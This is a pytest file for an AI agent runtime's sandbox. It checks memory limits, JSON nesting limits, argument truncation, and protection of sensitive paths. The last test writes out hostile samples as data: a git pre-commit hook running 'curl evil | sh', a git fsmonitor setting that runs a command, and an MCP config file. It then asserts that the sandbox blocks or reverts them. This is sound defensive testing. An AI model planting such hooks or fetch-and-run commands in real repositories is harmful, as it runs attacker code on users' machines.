async def test_recorded_calls_keep_bounded_copies_of_big_arguments(workspace: Path) -> None:
    # a program passing megabytes per call must not grow the sidecar's memory or the transcript
    router = make_router(workspace)
    result = await run(
        router,
        """
        big = "x" * 200_000
        for _ in range(3):
            tools.echo(text=big)
        return "ok"
        """,
    )
    calls = data_of(result)["calls"]
    assert data_of(result)["value"] == "ok" and len(calls) == 3
    for call in calls:
        assert call["arguments"]["truncated"] is True and call["arguments"]["bytes"] > 200_000
        assert len(call["arguments"]["preview"]) == 512 and call["result"]["truncated"] is True


async def test_a_program_over_the_memory_limit_of_its_whole_sandbox_is_told_so(workspace: Path) -> None:
    """The memory cgroup counts tmpfs files too: the program is killed and the result names the limit."""
    from steerable_agent_runtime.sandbox._cgroup import cgroup_parents

    if not any("memory" in parent.controllers for parent in cgroup_parents()):
        pytest.skip("no writable memory cgroup here: memory is bounded per process (RLIMIT_AS) only")
    base = _bwrap_or_skip()
    limits = ResourceLimits(memory_bytes=160 * 2**20)
    router = make_router(workspace, sandbox=SandboxConfig(backend=base.backend, limits=limits))
    program = """
        chunk = b"x" * 2**20
        for where in ("/tmp/fill", "/dev/shm/fill"):
            with open(where, "wb") as fh:
                for _ in range(120):
                    fh.write(chunk)
        return "survived"
    """
    result = await asyncio.wait_for(run(router, program), 60)
    assert not result.success and result.needs_followup, result
    assert data_of(result)["code"] == "memory_limit"
    assert result.error == (
        "The program was killed: together with the files it wrote to /tmp and /dev/shm it went over the "
        "sandbox memory limit (STEERABLE_SANDBOX_MEMORY_BYTES). Use less memory."
    )


async def test_a_return_value_nested_too_deeply_is_a_value_limit(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(router, "v = []\nfor _ in range(300):\n    v = [v]\nreturn v")
    assert not result.success and result.needs_followup
    assert data_of(result)["code"] == "value_limit"
    assert result.error == "The return value is nested too deeply to send as JSON; return flatter data."
    result.to_wire()  # the failure itself serialises


async def test_a_nested_call_with_arguments_nested_too_deeply_is_recorded_bounded(workspace: Path) -> None:
    """Found by a review: a program writing its own call frame could make data.calls too deep for
    any JSON writer, and ``steerable session`` died on the result."""
    from steerable_sidecar.cli._session import handle_line

    router = make_router(workspace)
    frame = '{"t":"call","id":1,"tool":"list_dir","arguments":{"path":' + "[" * 300 + "]" * 300 + "}}"
    program = f"tools._channel.send({frame!r})\nreturn 1"
    result = await run(router, program)
    wire = result.to_wire()  # serialisable
    call = data_of(result)["calls"][0]
    assert call["arguments"] == {
        "truncated": True,
        "bytes": None,
        "preview": "(nested deeper than 64 levels)",
    }
    line = json.dumps({"id": "x", "name": "run_code", "arguments": {"code": program, "description": "d"}})
    answered = await handle_line(router, line)
    assert answered is not None and answered["id"] == "x" and wire["data"]["value"] == 1


async def test_session_answers_a_result_no_json_writer_takes() -> None:
    from steerable_sidecar.cli._session import handle_line

    router = ToolRouter()

    @router.tool
    async def deep() -> ToolResult:
        """Return data nested far too deeply."""
        value: list[Any] = []
        for _ in range(400):
            value = [value]
        return ToolResult(success=True, data={"value": value})

    answered = await handle_line(router, '{"id": "d", "name": "deep", "arguments": {}}')
    assert answered is not None and answered["id"] == "d"
    assert answered["result"]["success"] is False and answered["result"]["needsFollowup"] is True
    assert answered["result"]["error"].startswith("The tool's result cannot be sent as JSON (ValueError")
    assert answered["result"]["data"] == {"code": "unserializable_result"}


# -- FILE-15: protected paths are guarded for run_code as for bash -----------------------------------
@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
async def test_a_program_cannot_plant_a_git_hook_or_mcp_config_file_15(workspace: Path, backend: str) -> None:
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    program = GET_OS + textwrap.dedent(
        """
        planted = []
        for path, text in ((".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil | sh\\n"), (".mcp.json", "{}"),
                           (".git/config", "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n"), ("ok.txt", "fine\\n")):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
                os.write(fd, text.encode())
                os.close(fd)
                planted.append(path)
            except OSError as exc:
                planted.append(f"{path}: {exc.strerror}")
        return planted
        """
    )
    router = make_router(workspace, sandbox=_backend_config(backend))
    result = await run(router, program)
    data = data_of(result)
    assert result.success is False and result.needs_followup is True
    assert data["code"] == "protected_reverted", result
    assert data["value"][-1] == "ok.txt"  # an ordinary file is written
    if backend == "bwrap" or LandlockBackend().isolates():
        # the existing .git is a read-only mount (Landlock: in the program's own mount namespace,
        # SAFE-2); .mcp.json did not exist, so it is audited
        assert data["value"][0] == ".git/hooks/pre-commit: Read-only file system"
        assert data["protectedReverted"] == [".mcp.json"]
    else:  # Landlock without a mount namespace carves nothing out: every change is put back after
        assert data["protectedReverted"] == [".git/config", ".git/hooks/pre-commit", ".mcp.json"]
    assert result.error is not None and result.error.startswith("The program changed protected paths")
    assert not (hooks / "pre-commit").exists() and not (workspace / ".mcp.json").exists()
    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert (workspace / "ok.txt").read_text() == "fine\n"
